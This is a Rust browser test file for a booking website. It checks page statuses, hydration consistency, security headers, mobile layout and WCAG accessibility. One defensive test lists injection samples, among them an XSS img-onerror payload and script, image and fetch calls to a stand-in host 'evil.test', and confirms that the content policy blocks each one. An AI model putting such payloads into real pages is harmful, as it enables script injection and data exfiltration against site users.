//! What holds on every page.

use std::fs;

use hellomapper_tests::{Browser, Person, Running, acts, running::workspace};
use reqwest::Method;
use serde_json::{Value, json};
use shared_types::{bookings::AppointmentTypes, providers::SearchReply};

/// Every kind of public page with the status it answers.
pub async fn public_pages(running: &Running) -> Vec<(String, u16)> {
    let person = Person::new(&running.settings.public_url);
    let near = "near=Sydney+NSW+2000&radius_m=50000";
    let reply: SearchReply = person.get(&format!("/api/v1/providers/search?{near}")).await;
    let found = reply.items.iter().find(|item| item.bookable && !item.next_free.is_empty()).unwrap();
    let (role, practice) = (found.practitioner_role_id, found.organization.as_ref().unwrap());
    let types: AppointmentTypes =
        person.get(&format!("/api/v1/bookings/roles/{role}/appointment-types")).await;
    let of = types.items.first().unwrap().appointment_type_id;
    let pool = acts::offer_pool(running, practice.organization_id, of).await;
    let profession = found.profession.as_ref().unwrap();
    [
        ("/".to_owned(), 200),
        ("/search".to_owned(), 200),
        (format!("/search?{near}"), 200),
        (format!("/search?{near}&profession={profession}&order=soonest"), 200),
        ("/search?near=Richmond".to_owned(), 200),
        ("/search?near=Sydney+NSW+2000&q=xylophonist".to_owned(), 200),
        (format!("/providers/{}", found.slug), 200),
        (format!("/practices/{}", practice.slug), 200),
        (format!("/{profession}/sydney-nsw-2000"), 200),
        (format!("/book/{role}"), 200),
        (format!("/book/{role}?type={of}"), 200),
        (format!("/book/any/{pool}"), 200),
        ("/manage/0123456789abcdef0123456789abcdef".to_owned(), 200),
        ("/reply/yes/0123456789abcdef0123456789abcdef".to_owned(), 200),
        ("/reply/no/0123456789abcdef0123456789abcdef".to_owned(), 200),
        ("/unsubscribe/0123456789abcdef0123456789abcdef".to_owned(), 200),
        ("/assign".to_owned(), 200),
        ("/privacy".to_owned(), 200),
        ("/what-we-see".to_owned(), 200),
        ("/problems/time-taken".to_owned(), 200),
        ("/nothing/here/at-all".to_owned(), 404),
    ]
    .into()
}

/// Remembers the body as the server sent it: before this, scripts that wait for the document have not run.
const REMEMBER: &str = "document.addEventListener('readystatechange', () => {
    if (document.readyState === 'interactive') { window.asSent = document.body.cloneNode(true); }
});";

/// Remembers what the content policy and Trusted Types refused, from before the page's first script on.
const REFUSED: &str = "window.refused = [];
document.addEventListener('securitypolicyviolation', event =>
    window.refused.push(event.effectiveDirective + ' ' + event.blockedURI + ' ' + event.sample));";

/// The words as sent and as they stand, without what is made for the browser only: the map, the reader's own zone, and
/// lists of things shown on it.
const WORDS: &str = "
    const words = body => {
        body.querySelectorAll('script, .map, .map-here, .reader-zone, .reader-time, .account-slot, .toasts').forEach(e => e.remove());
        const texts = [];
        const walker = document.createTreeWalker(body, NodeFilter.SHOW_TEXT);
        while (walker.nextNode()) { texts.push(walker.currentNode.data); }
        return texts.join('').replace(/\\s+/g, ' ').trim();
    };
    return [words(window.asSent), words(document.body.cloneNode(true))];";

#[tokio::test(flavor = "multi_thread")]
async fn hydration_changes_no_word_logs_nothing_and_asks_nobody_else() {
    let running = Running::start().await;
    let browser = Browser::open(&running).await;
    for source in [REMEMBER, REFUSED] {
        browser.devtools("Page.addScriptToEvaluateOnNewDocument", json!({"source": source})).await;
    }
    let pages = public_pages(&running).await;
    browser.requests().await;
    let mut wrong = Vec::new();
    for (path, status) in &pages {
        browser.visit(path).await;
        let words = browser.eval(WORDS).await;
        if words[0] != words[1] {
            wrong.push(format!("{path} says something else: {}", first_difference(&words)));
        }
        for refused in refused(&browser).await {
            wrong.push(format!("{path} tries what its policy refuses: {refused}"));
        }
        for error in browser.console_errors().await {
            // Chromium notes a page's own 404 as an error.
            if *status == 200 || !error.contains("status of 404") {
                wrong.push(format!("{path} logs: {error}"));
            }
        }
        for url in browser.requests().await {
            if !url.starts_with(&format!("{}/", running.settings.public_url)) {
                wrong.push(format!("{path} asks {url}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    browser.close().await;
}

/// What the policy refused on this page.
async fn refused(browser: &Browser) -> Vec<String> {
    let refused = browser.eval("return window.refused").await;
    let refused = refused.as_array().expect("the page was opened with the listener in place");
    refused.iter().filter_map(Value::as_str).map(str::to_owned).collect()
}

/// Markup and scripts as somebody would slip them in, and the directive that keeps each out.
const SLIPPED_IN: [(&str, &str); 6] = [
    (
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')",
        "require-trusted-types-for",
    ),
    ("document.createElement('script').text = 'alert(1)'", "require-trusted-types-for"),
    ("document.createElement('script').src = 'https://evil.test/a.js'", "require-trusted-types-for"),
    ("trustedTypes.createPolicy('mine', {createHTML: text => text})", "trusted-types"),
    ("document.body.appendChild(new Image()).src = 'https://evil.test/pixel.gif'", "img-src"),
    ("fetch('https://evil.test/').catch(() => {})", "connect-src"),
];

#[tokio::test(flavor = "multi_thread")]
async fn what_is_slipped_into_a_page_does_nothing_and_is_noticed() {
    let running = Running::start().await;
    let browser = Browser::open(&running).await;
    browser.devtools("Page.addScriptToEvaluateOnNewDocument", json!({"source": REFUSED})).await;
    for (script, directive) in SLIPPED_IN {
        browser.visit("/").await;
        assert_eq!(refused(&browser).await, Vec::<String>::new(), "before {script}");
        browser.eval(&format!("try {{ {script} }} catch (error) {{}}")).await;
        browser.is_true("return window.refused.length > 0").await;
        let found = refused(&browser).await;
        assert!(found.iter().all(|refused| refused.starts_with(directive)), "{script}: {found:?}");
        assert!(!browser.console_errors().await.is_empty(), "the console says nothing of {script}");
    }
    browser.close().await;
}

fn first_difference(words: &Value) -> String {
    let text = |side: usize| words[side].as_str().unwrap_or_default().chars().collect::<Vec<_>>();
    let (sent, now) = (text(0), text(1));
    let same = sent.iter().zip(&now).take_while(|(sent, now)| sent == now).count();
    let around =
        |side: &[char]| side[same.saturating_sub(40)..side.len().min(same + 80)].iter().collect::<String>();
    format!("{:?} became {:?}", around(&sent), around(&now))
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_carry_their_policy_and_answer_as_they_should() {
    let running = Running::start().await;
    let person = Person::new(&running.settings.public_url);
    for (path, status) in public_pages(&running).await {
        let page = person.send(Method::GET, &path, None::<&Value>).await;
        assert_eq!(page.status.as_u16(), status, "{path}");
        let policy = page.header("content-security-policy");
        let words = ["/privacy", "/what-we-see", "/problems/"].iter().any(|part| path.starts_with(part));
        let inline = if words { 0 } else { 3 };
        assert!(policy.starts_with("default-src 'none'; script-src 'self' "), "{path}: {policy}");
        assert_eq!(policy.matches("'sha256-").count(), inline, "{path}: {policy}");
        assert_eq!(page.body.contains("<script"), !words, "{path}");
        for part in [
            "connect-src 'self' data:",
            "style-src 'self'",
            "font-src 'self'",
            "base-uri 'none'",
            "form-action 'self'",
            "frame-ancestors 'none'",
            "object-src 'none'",
            "require-trusted-types-for 'script'; trusted-types default",
        ] {
            assert!(policy.contains(part), "{path}: {part} in {policy}");
        }
        assert!(!policy.contains("unsafe-inline") && !policy.contains("'unsafe-eval'"), "{path}: {policy}");
        assert_eq!(page.header("referrer-policy"), "same-origin", "{path}");
        assert_eq!(page.header("x-content-type-options"), "nosniff", "{path}");
        assert!(!page.body.contains(" style=\""), "{path} has an inline style");
        let sealed = page.body.matches(" integrity=\"sha384-").count();
        let ours = ["<script defer src=\"/", "rel=\"stylesheet\"", "rel=\"modulepreload\""];
        let ours: usize = ours.iter().map(|tag| page.body.matches(tag).count()).sum();
        assert!(sealed >= 4 && sealed == ours, "{path}: {sealed} of {ours} files are sealed");
        let private = ["/assign", "/book/", "/manage/", "/reply/", "/unsubscribe/"];
        let private = private.iter().any(|part| path.starts_with(part));
        let caching = if private { "no-store" } else { "public, max-age=0, must-revalidate" };
        assert_eq!(page.header("cache-control"), caching, "{path}");
    }
    assert_eq!(person.cookie_names(), Vec::<String>::new(), "reading sets no cookie");
}

#[tokio::test(flavor = "multi_thread")]
async fn no_page_scrolls_sideways_at_360_pixels() {
    let running = Running::start().await;
    let browser = Browser::open(&running).await;
    browser.width(360).await;
    let mut wrong = Vec::new();
    for (path, _) in public_pages(&running).await {
        browser.visit(&path).await;
        wrong.extend(sideways(&browser).await);
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_meet_wcag_on_a_desk_in_light_and_on_a_phone_in_the_dark() {
    let running = Running::start().await;
    let browser = Browser::open(&running).await;
    let pages = public_pages(&running).await;
    let mut wrong = Vec::new();
    for (width, scheme) in [(1280, "light"), (360, "dark")] {
        browser.width(width).await;
        browser.scheme(scheme).await;
        for (path, _) in &pages {
            browser.visit(path).await;
            let found = violations(&browser).await;
            wrong.extend(found.into_iter().map(|violation| format!("{width} px {scheme}: {violation}")));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    browser.close().await;
}

/// What is wrong with the page as it stands: by WCAG, and on a phone.
pub async fn faults(browser: &Browser) -> Vec<String> {
    browser.settled().await;
    let mut wrong = violations(browser).await;
    browser.picture("wide").await;
    browser.width(360).await;
    wrong.extend(sideways(browser).await);
    browser.picture("phone").await;
    browser.width(1280).await;
    wrong
}

/// What stands out of the page to the right, when something does.
pub async fn sideways(browser: &Browser) -> Option<String> {
    let wide = browser
        .eval(
            "const root = document.documentElement;
             if (root.scrollWidth <= root.clientWidth) { return null; }
             const out = e => e.getBoundingClientRect().right > root.clientWidth + 1;
             const over = [...document.body.querySelectorAll('*')].filter(out);
             return root.scrollWidth + ' px: ' + over.slice(0, 5).map(e => e.tagName + '.' + e.className).join(' ');",
        )
        .await;
    let here = browser.here().await;
    wide.as_str().map(|wide| format!("{here} is {wide}"))
}

/// What axe finds wrong by WCAG 2.2 AA, with where.
pub async fn violations(browser: &Browser) -> Vec<String> {
    let axe = workspace().join("node_modules/axe-core/axe.min.js");
    let axe = fs::read_to_string(&axe).expect("axe-core is installed by `cargo xtask test` (npm)");
    browser.eval(&axe).await;
    // What a page that has scrolled on shows half of, below the bar at its top, is too small only for that moment.
    browser.eval("window.scrollTo(0, 0)").await;
    let found = browser
        .eval_async(
            "const where = node => node.target.join(' ') + ' ' + node.failureSummary.replace(/\\s+/g, ' ');
             const words = violation => violation.id + ': ' + violation.nodes.slice(0, 4).map(where).join(' | ');
             axe.run(document, {runOnly: {type: 'tag', values: ['wcag2a', 'wcag21a', 'wcag2aa', 'wcag21aa', 'wcag22aa']}})
                 .then(found => done(found.violations.map(words)), error => done([String(error)]));",
        )
        .await;
    let here = browser.here().await;
    let found = found.as_array().expect("a list of violations");
    found.iter().map(|violation| format!("{here}: {}", violation.as_str().unwrap_or_default())).collect()
}
